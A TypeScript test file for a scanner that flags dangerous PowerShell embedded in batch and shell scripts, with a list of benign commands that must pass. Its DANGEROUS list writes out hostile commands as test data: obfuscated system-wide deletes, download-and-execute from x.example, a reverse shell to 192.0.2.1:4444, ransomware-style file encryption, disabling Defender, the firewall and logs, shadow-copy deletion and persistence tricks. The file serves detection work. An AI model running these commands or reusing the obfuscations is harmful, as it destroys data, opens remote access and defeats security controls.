import { allIn, highIn } from "../support/found";

const raw = String.raw;

function encoded(code: string): string {
  return Buffer.from(code, "utf16le").toString("base64");
}

/** Code behind `powershell -c`, with the rule. */
const DANGEROUS: readonly (readonly [string, string])[] = [
  [raw`Remove-Item -Recurse -Force C:\Windows`, "delete-protected"],
  [raw`Remove-Item -Path 'C:\Users\*' -Recurse -Force`, "delete-protected"],
  [raw`ri C:\Users -r -fo`, "delete-protected"],
  [raw`rm -Recurse -Force $env:SystemRoot`, "delete-protected"],
  [raw`Remove-Item $undefined\* -Recurse`, "delete-maybe-empty"],
  [raw`& ('re'+'move-item') -recurse -force C:\Windows`, "delete-protected"],
  [raw`$a='Rem';$b='ove-Item'; &($a+$b) C:\Users -Recurse`, "delete-protected"],
  [raw`&(\"{1}{0}\" -f 'Item','Remove-') -Recurse C:\Windows`, "delete-protected"],
  [raw`& (gcm *emove-Ite*) -Recurse C:\Windows`, "delete-protected"],
  [raw`Set-Alias zz Remove-Item; zz -Recurse C:\Windows`, "delete-protected"],
  [raw`gci C:\Users | ForEach-Object { ri $_.FullName -Recurse -Force }`, "delete-protected"],
  [raw`Get-ChildItem C:\Windows -Recurse | Remove-Item -Force`, "delete-protected"],
  [raw`foreach ($d in 'C:\Windows','D:\x') { Remove-Item $d -Recurse }`, "delete-protected"],
  [raw`[IO.Directory]::Delete('C:\Users', $true)`, "delete-protected"],
  [raw`cd C:\Windows; Remove-Item * -Recurse`, "delete-protected"],
  [raw`function f($p) { Remove-Item $p -Recurse }; f C:\Windows`, "delete-protected"],
  [raw`cmd /c rd /s /q C:\Users`, "delete-protected"],
  ["iex (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')", "run-download"],
  ["irm http://x.example | iex", "run-download"],
  ["(iwr http://x.example -UseBasicParsing).Content | Invoke-Expression", "run-download"],
  [
    "$c = New-Object Net.WebClient; $s = $c.DownloadString('http://x.example'); & ([scriptblock]::Create($s))",
    "run-download",
  ],
  [
    raw`iwr http://x.example/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe`,
    "run-download",
  ],
  [
    raw`(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe','C:\a.exe'); & C:\a.exe`,
    "run-download",
  ],
  ["-join([char[]](82,101,115,116,97,114,116,45,67,111,109,112,117,116,101,114))|iex", "power-off"],
  ["('{1}{0}' -f 'omputer','Stop-C')|iex", "power-off"],
  ["$x='retupmoC-potS'; iex (-join $x[-1..-($x.Length)])", "power-off"],
  ["'Stop-ZZComputer'.Replace('ZZ','')|iex", "power-off"],
  ["('Stop-#Computer' -replace '#','')|iex", "power-off"],
  ["('Stop','Computer' -join '-')|iex", "power-off"],
  ["St`op-Co`mputer", "power-off"],
  ["&([char]83+'top-Computer')", "power-off"],
  ["$env:ComSpec[4,15,25]-join''|Out-Null; Stop-Computer -Force", "power-off"],
  [
    "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U3RvcC1Db21wdXRlcg=='))|iex",
    "power-off",
  ],
  ["(gwmi Win32_OperatingSystem).Win32Shutdown(6)", "power-off"],
  ["Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }", "delete-snapshots"],
  ["Format-Volume -DriveLetter D -Confirm:$false", "make-file-system"],
  ["Get-Disk | Clear-Disk -RemoveData -Confirm:$false", "change-partitions"],
  ["Initialize-Disk -Number 1", "change-partitions"],
  ["Get-Service | Stop-Service -Force", "stop-system-service"],
  ["Stop-Service -Name Dnscache -Force", "stop-network-service"],
  ["Set-Service EventLog -StartupType Disabled", "stop-audit"],
  ["Get-Process | Stop-Process -Force", "kill-everything"],
  ["Stop-Process -Name lsass -Force", "kill-everything"],
  ["Get-NetAdapter | Disable-NetAdapter -Confirm:$false", "interface-down"],
  ["Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False", "flush-firewall"],
  ["Add-LocalGroupMember -Group Administrators -Member bob", "add-root-account"],
  ["New-LocalUser bob -Password (ConvertTo-SecureString 'P1' -AsPlainText -Force)", "set-password"],
  ["Get-EventLog -List | ForEach-Object { Clear-EventLog $_.Log }", "clear-logs"],
  ["Set-MpPreference -DisableRealtimeMonitoring $true", "disable-access-control"],
  [raw`Add-MpPreference -ExclusionPath C:\ `, "disable-access-control"],
  [
    "Get-WindowsFeature | Where-Object Installed | Uninstall-WindowsFeature",
    "remove-many-packages",
  ],
  ["while ($true) { Start-Process notepad }", "fork-bomb"],
  [
    raw`$a=[Security.Cryptography.Aes]::Create();gci D:\Shares -Recurse -File|ForEach-Object{$b=[IO.File]::ReadAllBytes($_.FullName);$e=$a.CreateEncryptor().TransformFinalBlock($b,0,9);[IO.File]::WriteAllBytes($_.FullName,$e)}`,
    "encrypt-files",
  ],
  [
    raw`Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute powershell -Argument '-c iex (irm http://x.example)')`,
    "scheduled-code",
  ],
  [
    raw`Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' -Name Shell -Value x.exe`,
    "start-up-code",
  ],
  [raw`Remove-Item HKLM:\SYSTEM\CurrentControlSet\Services -Recurse`, "break-boot"],
  ["Invoke-Sqlcmd -Query 'DROP DATABASE shop'", "sql-destroy"],
  [
    "$c=New-Object Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream();$d=(New-Object Text.ASCIIEncoding).GetString($b,0,9);iex $d",
    "remote-shell",
  ],
];

const CLEAN: readonly string[] = [
  raw`Remove-Item -Recurse -Force C:\Windows -WhatIf`,
  raw`Remove-Item $env:TEMP\build -Recurse -Force`,
  raw`Remove-Item D:\Apps\Shop\cache\* -Recurse`,
  raw`Write-Host 'Remove-Item -Recurse C:\Windows'`,
  raw`# Remove-Item -Recurse C:\Windows`,
  raw`Get-ChildItem C:\inetpub\logs\LogFiles -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -Force`,
  raw`Get-ChildItem C:\Users -Recurse | Select-Object FullName`,
  raw`if ($false) { Remove-Item C:\Windows -Recurse }`,
  raw`exit 0; Remove-Item C:\Windows -Recurse`,
  raw`function f { Remove-Item C:\Windows -Recurse }`,
  "Stop-Service MyApp; Start-Service MyApp",
  "Restart-Service Dnscache",
  "Get-Service | Where-Object Status -eq Running",
  "Get-Process -Name shop | Stop-Process",
  "Get-NetAdapter -Name 'Ethernet 2' | Restart-NetAdapter",
  "Invoke-WebRequest http://localhost:8080/health -UseBasicParsing",
  "iwr https://x.example/a.json -OutFile a.json",
  "iwr https://x.example/a.msi -OutFile a.msi; if ((Get-FileHash a.msi).Hash -ne 'AB') { exit 1 }; msiexec /i a.msi",
  "Get-EventLog System -Newest 10",
  "New-NetFirewallRule -DisplayName a -Direction Inbound -LocalPort 8080 -Protocol TCP -Action Allow",
  "Get-Disk | Format-Table Number,Size",
  "while ($true) { Start-Process notepad; Start-Sleep 60; break }",
  "$x = 'Stop-Computer'; Write-Output $x",
];

describe("PowerShell inside a batch file", () => {
  it.each(DANGEROUS)("%s", async (code, rule) => {
    expect(await highIn("BAT", `@echo off\npowershell -NoProfile -Command "${code}"`)).toEqual([
      `${rule}@2`,
    ]);
  });

  it.each(DANGEROUS)("encoded: %s", async (code, rule) => {
    const plain = code.replaceAll(raw`\"`, '"');
    expect(await highIn("BAT", `powershell -nop -w hidden -enc ${encoded(plain)}`)).toEqual([
      `${rule}@1`,
    ]);
  });

  it.each(CLEAN)("approves %s", async (code) => {
    expect(await allIn("BAT", `powershell -enc ${encoded(code)}`)).toEqual([]);
  });

  it("accepts a guard, and asks about what isn't known", async () => {
    const code = encoded(raw`if (-not $dir) { exit 1 }; Remove-Item $dir\* -Recurse`);
    expect(await allIn("BAT", `powershell -enc ${code}`)).toEqual(["medium delete-unknown@1"]);
  });

  it("reads the ways to hand code over", async () => {
    const code = encoded("Stop-Computer");
    for (const line of [
      `powershell -e ${code}`,
      `powershell.exe -ec ${code}`,
      `powershell /EncodedCommand ${code}`,
      `pwsh -Command Stop-Computer`,
      `powershell -ExecutionPolicy Bypass "& {Stop-Computer}"`,
      "powershell Stop-Computer",
      "echo Stop-Computer | powershell -",
      "echo Stop-Computer>a.ps1 & powershell -File a.ps1",
      `for %%p in (powershell) do %%p -e ${code}`,
    ]) {
      expect([line, await highIn("BAT", line)]).toEqual([line, ["power-off@1"]]);
    }
  });

  it("reports a line of a file that the script wrote where that line stands", async () => {
    const script = "echo $x = 1 > a.ps1\necho Stop-Computer >> a.ps1\npowershell -File a.ps1";
    expect(await highIn("BAT", script)).toEqual(["power-off@2"]);
  });

  it("follows pwsh on Linux with the paths of Linux", async () => {
    expect(await highIn("SHELL", "pwsh -c 'Remove-Item -Recurse -Force /etc'")).toEqual([
      "delete-protected@1",
    ]);
  });
});
